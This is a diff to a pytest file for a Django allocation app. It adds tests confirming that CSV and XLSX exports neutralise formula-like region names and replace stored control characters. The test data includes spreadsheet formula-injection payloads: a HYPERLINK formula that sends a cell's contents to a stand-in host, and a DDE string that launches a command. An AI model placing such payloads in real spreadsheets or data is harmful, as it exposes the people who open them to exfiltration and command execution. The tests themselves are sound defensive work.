@@ -6,7 +6,8 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from alfadmin.models import BudgetYear
+from alfadmin.kernel.spreadsheets import REPLACEMENT
+from alfadmin.models import BudgetYear, Region
 from allocations.models import CurrentAllocation
 
 pytestmark = pytest.mark.django_db
@@ -97,3 +98,29 @@ def test_xlsx_has_the_table_the_trace_and_the_run(computed, viewer_client):
     facts = dict(list(workbook["Körning"].values)[1:9])
     assert facts["Körning"] == run.pk
     assert facts["Indata (SHA-256)"] == run.input_hash
+
+
+PAYLOADS = ['=HYPERLINK("http://x?"&A2,"Click")', "=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading CR"]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_formula_like_region_name_is_text_in_the_csv_and_the_xlsx(computed, viewer_client, payload):
+    Region.objects.filter(code="AAA").update(name=payload)  # as stored: the exports must not trust it
+    body = {row[0]: row for row in _csv(viewer_client.get("/allocations/2025/export.csv?model=alf2015"))[1:]}
+    assert body["AAA"][1] == "'" + payload  # CSV has no cell types: the quote keeps it a text
+    assert body["AAA"][2].lstrip("-").isdigit()  # amounts stay plain numbers
+    table = load_workbook(io.BytesIO(viewer_client.get("/allocations/2025/export.xlsx?model=alf2015").content))["Fördelning"]
+    row = next(row for row in table.iter_rows(min_row=2) if row[0].value == "AAA")
+    # XML reads a carriage return as a line feed; the text is otherwise as stored, never a formula.
+    assert (row[1].value, row[1].data_type) == (payload.replace("\r", "\n"), "s")
+    assert row[2].data_type == "n"
+
+
+def test_a_stored_control_character_in_a_region_name_is_replaced_in_both_exports(computed, viewer_client):
+    Region.objects.filter(code="AAA").update(name="Region\u000bAAA")  # older data, from before the check
+    csv_response = viewer_client.get("/allocations/2025/export.csv?model=alf2015")
+    xlsx_response = viewer_client.get("/allocations/2025/export.xlsx?model=alf2015")
+    assert (csv_response.status_code, xlsx_response.status_code) == (200, 200)
+    assert {row[0]: row for row in _csv(csv_response)[1:]}["AAA"][1] == f"Region{REPLACEMENT}AAA"
+    table = load_workbook(io.BytesIO(xlsx_response.content))["Fördelning"]
+    assert next(row for row in table.iter_rows(min_row=2) if row[0].value == "AAA")[1].value == f"Region{REPLACEMENT}AAA"
